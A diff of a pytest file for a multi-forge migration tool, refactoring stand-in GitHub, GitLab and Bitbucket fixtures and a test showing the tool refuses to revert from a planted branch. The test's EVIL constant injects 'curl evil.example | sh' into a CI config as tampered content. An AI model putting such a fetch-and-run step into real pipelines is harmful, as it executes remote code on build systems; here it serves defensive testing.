@@ -4,6 +4,7 @@ from __future__ import annotations
 
 from collections.abc import Callable, Iterator, Mapping
 from pathlib import Path
+from typing import Any
 
 import pytest
 from msgspec import Struct
@@ -14,11 +15,11 @@ from cci_migrate.forges import campaign_identity
 from cci_migrate.forges.host import TRAILER
 from cci_migrate.policy.settings import Policy
 from tests.batch.git_server import GitServer
-from tests.batch.github_stand_in import GitHubStandIn, Pull
-from tests.batch.repositories import CONFIG, FIXED, PLAIN, Batch, bare, commit_bare, git
-from tests.batch.rest_stand_ins import BitbucketStandIn, GitLabStandIn, RestStandIn
+from tests.batch.github_stand_in import GitHubStandIn
+from tests.batch.hosts import HOSTS, StandIn, served
+from tests.batch.repositories import BRANCH, CONFIG, FIXED, PLAIN, Batch, bare, commit_bare, git
+from tests.batch.rest_stand_ins import BitbucketStandIn, GitLabStandIn
 
-BRANCH = "cci-migrate/registry-auth"
 EVIL = FIXED.replace(b"      - checkout", b"      - run: curl evil.example | sh")
 pytestmark = pytest.mark.usefixtures("clock")
 
@@ -133,41 +134,18 @@ def place(
             with GitServer.serving(root) as server:
                 folders = {name: bare(root / f"{name}.git", {CONFIG: PLAIN}) for name in names}
                 yield Place(folders, tuple(server.url(f"{n}.git") for n in names), "changed")
-        case "github":
-            with GitHubStandIn.serving(root) as hub:
-                monkeypatch.setenv("GITHUB_API_URL", hub.api)
-                monkeypatch.setenv("GH_TOKEN", hub.token)
-                repositories = {name: hub.add(f"acme/{name}", {CONFIG: PLAIN}) for name in names}
-
-                def propose(name: str) -> None:
-                    pull = Pull(1, repositories[name], BRANCH, "main", "", "", False)
-                    repositories[name].pulls.append(pull)
-
+        case kind:
+            with served(HOSTS[kind], tmp_path, monkeypatch) as host:
+                repositories: dict[str, Any] = {
+                    name: host.add(f"acme/{name}", {CONFIG: PLAIN}) for name in names
+                }
                 yield Place(
                     {name: repository.folder for name, repository in repositories.items()},
-                    ("github:acme",),
-                    "pull-request-open",
-                    pulls=lambda name: len(repositories[name].pulls),
-                    propose=propose,
-                )
-        case _:
-            kind: type[RestStandIn] = (
-                GitLabStandIn if request.param == "gitlab" else BitbucketStandIn
-            )
-            with kind.serving(root) as host:
-                monkeypatch.setenv("CI_API_V4_URL", host.api)
-                monkeypatch.setenv("BITBUCKET_API_URL", host.api)
-                monkeypatch.setenv(kind.variable, host.token)
-                hosted = {name: host.add(f"acme/{name}", {CONFIG: PLAIN}) for name in names}
-                yield Place(
-                    {name: batch.folder for name, batch in hosted.items()},
                     (host.source,),
                     "pull-request-open",
-                    pulls=lambda name: len(hosted[name].pulls),
-                    propose=lambda name: host.request(hosted[name], BRANCH),
+                    pulls=lambda name: len(repositories[name].pulls),
+                    propose=lambda name: host.request(repositories[name], BRANCH),
                 )
-                host.silence.set()
-            assert host.faults == []
 
 
 def tips(place: Place) -> dict[str, str]:
@@ -210,38 +188,19 @@ def test_a_branch_is_ours_only_if_its_content_is(
         assert tip == foreign.get(name), name
 
 
-@pytest.mark.parametrize("kind", [GitHubStandIn, GitLabStandIn, BitbucketStandIn])
-def test_no_reversal_goes_out_from_a_planted_branch(
-    kind: type[GitHubStandIn | RestStandIn],
-    tmp_path: Path,
-    monkeypatch: pytest.MonkeyPatch,
-    batch: Batch,
-) -> None:
-    root = tmp_path / "served"
-    root.mkdir()
-    with kind.serving(root) as host:
-        for variable in ("GITHUB_API_URL", "CI_API_V4_URL", "BITBUCKET_API_URL"):
-            monkeypatch.setenv(variable, host.api)
-        monkeypatch.setenv(getattr(kind, "variable", "GH_TOKEN"), host.token)
-        repository = host.add("acme/api", {CONFIG: PLAIN})
-        source = getattr(kind, "source", "github:acme")
-        batch("plan", source, code=1)
-        batch("apply", "--seconds-between", 0)
-        git(repository.folder, "update-ref", "refs/heads/main", f"refs/heads/{BRANCH}")
-        back = f"revert-1-{BRANCH}"
-        planted = commit_bare(
-            repository.folder, {CONFIG: EVIL}, back, message(batch.id()), base="main"
-        )
-        if isinstance(repository.pulls[0], Pull):
-            repository.pulls[0].state = "MERGED"
-            repository.pulls.append(Pull(2, repository, back, "main", "", "", False))
-        else:
-            is_gitlab = kind is GitLabStandIn
-            repository.pulls[0]["state"] = "merged" if is_gitlab else "MERGED"
-        pulls = len(repository.pulls)
-        output = batch("revert", code=1).output
-        assert "does not revert the change" in output
-        assert batch.states() == {"api": "pull-request-merged"}
-        assert git(repository.folder, "rev-parse", back) == planted
-        assert len(repository.pulls) == pulls
-        host.silence.set()
+@pytest.mark.parametrize("forge", [GitHubStandIn, GitLabStandIn, BitbucketStandIn], indirect=True)
+def test_no_reversal_goes_out_from_a_planted_branch(forge: StandIn, batch: Batch) -> None:
+    repository = forge.add("acme/api", {CONFIG: PLAIN})
+    batch("plan", forge.source, code=1)
+    batch("apply", "--seconds-between", 0)
+    repository.merge(BRANCH)
+    back = f"revert-1-{BRANCH}"
+    planted = commit_bare(repository.folder, {CONFIG: EVIL}, back, message(batch.id()), base="main")
+    if isinstance(forge, GitHubStandIn):
+        forge.request(forge.repositories["acme/api"], back)
+    pulls = len(repository.pulls)
+    output = batch("revert", code=1).output
+    assert "does not revert the change" in output
+    assert batch.states() == {"api": "pull-request-merged"}
+    assert git(repository.folder, "rev-parse", back) == planted
+    assert len(repository.pulls) == pulls
